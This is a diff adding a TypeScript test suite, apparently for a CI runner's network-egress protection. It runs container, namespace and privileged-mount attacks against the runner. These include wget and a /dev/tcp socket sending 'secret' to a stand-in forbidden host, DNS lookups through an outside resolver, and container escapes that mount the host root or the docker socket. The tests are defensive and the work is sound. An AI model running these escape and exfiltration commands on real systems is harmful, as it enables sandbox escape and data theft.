@@ -1,0 +1,176 @@
+// T30 to T40: containers, and what else makes networks and namespaces on a runner. Process ids are those of the machine
+// under the tests: a case names only those of its own world, and never process 1.
+import { ALLOWED, FORBIDDEN, GATEWAY, IMAGE, PLACES, RUNNER } from "@lockstep/testkit/privileged";
+import { attack } from "../attack.ts";
+import type { Case } from "../case.ts";
+import { askedForEvil, either, fileExists, flowTo, reachedEvil } from "../harm.ts";
+
+const EVIL = FORBIDDEN.a;
+/** By address, by name, and a name to a resolver of the container's choice. */
+const TRY = `timeout 3 wget -qO- http://${EVIL}/; timeout 3 wget -qO- http://x.${FORBIDDEN.name}/; nslookup y.${FORBIDDEN.name} 8.8.8.8; ping -c 1 -W 1 ${EVIL}`;
+const HARM = either(reachedEvil, askedForEvil);
+
+/** What `--privileged` gives that matters here; some virtual machines have not all of what it asks for. */
+const POWERS =
+  "--cap-add NET_ADMIN --cap-add SYS_ADMIN --cap-add SYS_PTRACE --security-opt seccomp=unconfined --security-opt apparmor=unconfined";
+/** As root of a container with the host's programs: a namespace behind it, translated as container engines do. */
+const NESTED = `docker run --rm ${POWERS} -v /:/host ${IMAGE} chroot /host bash -c '
+ip link add inner0 type veth peer name inner1
+unshare --net sleep 30 & nested=$!
+sleep 0.3
+ip link set inner1 netns $nested
+ip address add 172.31.0.1/24 dev inner0; ip link set inner0 up
+nsenter -t $nested -n sh -c "ip address add 172.31.0.2/24 dev inner1; ip link set inner1 up; ip route add default via 172.31.0.1"
+echo 1 > /proc/sys/net/ipv4/ip_forward
+iptables -t nat -A POSTROUTING -s 172.31.0.0/24 -j MASQUERADE
+nsenter -t $nested -n busybox sh -c "${TRY}"' || true`;
+
+export const CONTAINER_CASES: readonly Case[] = [
+  {
+    id: "T30",
+    title: "Containers on Docker's default bridge",
+    outcome: "prevented",
+    run: attack({
+      docker: true,
+      act: `docker run --rm ${IMAGE} sh -c '${TRY}'`,
+      harm: HARM,
+      sign: ({ report }) => report.blocked.some(({ addresses }) => addresses.includes(EVIL)),
+    }),
+  },
+  {
+    id: "T31",
+    title: "Containers on a bridge that a step makes",
+    outcome: "prevented",
+    run: attack({
+      docker: true,
+      act: `docker network create --subnet 172.29.0.0/24 own; docker run --rm --network own ${IMAGE} sh -c '${TRY}'`,
+      harm: HARM,
+    }),
+  },
+  {
+    id: "T32",
+    title: "Containers on the host's network",
+    outcome: "prevented",
+    run: attack({ docker: true, act: `docker run --rm --network host ${IMAGE} sh -c '${TRY}'`, harm: HARM }),
+  },
+  {
+    id: "T33",
+    title: "A builder in a container (buildx, docker-container driver), and plain builds",
+    outcome: "prevented",
+    why: "Played by a build, and by a privileged container that routes for a namespace of its own.",
+    run: attack({
+      docker: true,
+      act: `
+printf 'FROM ${IMAGE}\\nRUN ${TRY.replaceAll("; ", " || ")} || true\\n' > Dockerfile
+docker build --no-cache . || true
+${NESTED}`,
+      harm: HARM,
+    }),
+  },
+  {
+    id: "T34",
+    title: "Service containers that were started before protection",
+    outcome: "prevented",
+    run: attack({
+      docker: true,
+      before: (world) =>
+        world.job.step(
+          "service",
+          `docker run -d ${IMAGE} sh -c 'while true; do timeout 1 wget -qO- http://${EVIL}/; sleep 0.2; done'`,
+        ),
+      act: "sleep 1",
+      harm: reachedEvil,
+    }),
+  },
+  {
+    id: "T35",
+    title: "Rootless containers, whose network is an ordinary process of the user",
+    outcome: "prevented",
+    why: "Played by a process in a network namespace of its own user namespace that has a socket of the host's handed in.",
+    run: attack({
+      act: `
+mkfifo ${PLACES.temporary}/in ${PLACES.temporary}/out
+( exec 3<>/dev/tcp/${EVIL}/4444; cat ${PLACES.temporary}/in >&3 & timeout 2 cat <&3 > ${PLACES.temporary}/out ) &
+unshare --user --map-root-user --net sh -c 'echo secret > ${PLACES.temporary}/in'
+timeout 2 cat ${PLACES.temporary}/out || true`,
+      harm: reachedEvil,
+    }),
+  },
+  {
+    id: "T36",
+    title: "Networks that root makes by hand, as `ctr` and `nerdctl` do with their plugins",
+    outcome: "prevented",
+    run: attack({
+      act: `
+sudo sh -c '
+ip link add cni0 type bridge; ip address add 10.88.0.1/16 dev cni0; ip link set cni0 up
+unshare --net sleep 30 & nested=$!
+sleep 0.3
+ip link add pod0 type veth peer name eth0 netns $nested
+ip link set pod0 master cni0 up
+nsenter -t $nested -n sh -c "ip address add 10.88.0.2/16 dev eth0; ip link set eth0 up; ip route add default via 10.88.0.1"
+sysctl -qw net.ipv4.ip_forward=1
+iptables -t nat -A POSTROUTING -s 10.88.0.0/16 -o eth0 -j MASQUERADE
+iptables -P FORWARD ACCEPT
+nsenter -t $nested -n busybox sh -c "${TRY}"
+'`,
+      harm: HARM,
+    }),
+  },
+  {
+    id: "T37",
+    title: "Clusters in containers (kind, minikube): namespaces behind namespaces",
+    outcome: "prevented",
+    run: attack({ docker: true, act: NESTED, harm: HARM }),
+  },
+  {
+    id: "T38",
+    title: "Links of containers on the machine's own device (macvlan)",
+    outcome: "detected",
+    why: "Frames of such a link leave below the rules. `containers: filter` refuses the network; with `sudo: disable` nobody else can make one.",
+    run: attack({
+      docker: true,
+      act: `
+docker network create -d macvlan --subnet 10.1.0.0/16 --gateway ${GATEWAY.a} -o parent=${RUNNER.link} direct
+docker run --rm --network direct --ip 10.1.0.77 ${IMAGE} timeout 3 wget -qO- http://${EVIL}/`,
+      harm: reachedEvil,
+      sign: ({ report }) => report.detections.some(({ id }) => id === "link-added"),
+    }),
+  },
+  {
+    id: "T39",
+    title: "A container with a resolver of its own choice",
+    outcome: "prevented",
+    run: attack({
+      docker: true,
+      act: `docker run --rm --dns 8.8.8.8 ${IMAGE} nslookup y.${FORBIDDEN.name}; docker run --rm --dns 8.8.8.8 ${IMAGE} nslookup ${ALLOWED.name}`,
+      harm: either(askedForEvil, flowTo({ address: "8.8.8.8" })),
+    }),
+  },
+  {
+    id: "T40",
+    title: "Containers that are root on the host: privileged, host namespaces, devices, mounts, the socket itself",
+    outcome: "prevented",
+    why: "With `containers: filter` or `disable`. With `containers: keep` it is root on the machine, as with sudo.",
+    run: attack({
+      docker: true,
+      inputs: { containers: "filter", sudo: "disable" },
+      act: (world) =>
+        world.job.step(
+          "attack",
+          `
+write='touch /host/etc/taken'
+docker run --rm --privileged -v /:/host ${IMAGE} sh -c "$write" || docker run --rm ${POWERS} -v /:/host ${IMAGE} sh -c "$write" || true
+docker run --rm -v /etc:/host/etc ${IMAGE} sh -c "$write" || true
+docker run --rm --mount type=bind,source=/,target=/host ${IMAGE} sh -c "$write" || true
+docker run --rm ${POWERS} --pid host ${IMAGE} nsenter -t ${world.machine.pid} -m touch /etc/taken || true
+docker run --rm -v /var/run/docker.sock:/s ${IMAGE} test -S /s && touch ${PLACES.temporary}/socket || true
+docker run --rm --cap-add NET_ADMIN --network host ${IMAGE} ip link add taken0 type dummy || true
+docker volume create --driver local -o type=none -o o=bind -o device=/etc all && docker run --rm -v all:/host/etc ${IMAGE} sh -c "$write" || true`,
+          { timeoutMs: 60_000 },
+        ),
+      harm: either(fileExists("/etc/taken"), fileExists(`${PLACES.temporary}/socket`)),
+      sign: ({ report }) => report.counts.blocked > 0,
+    }),
+  },
+];
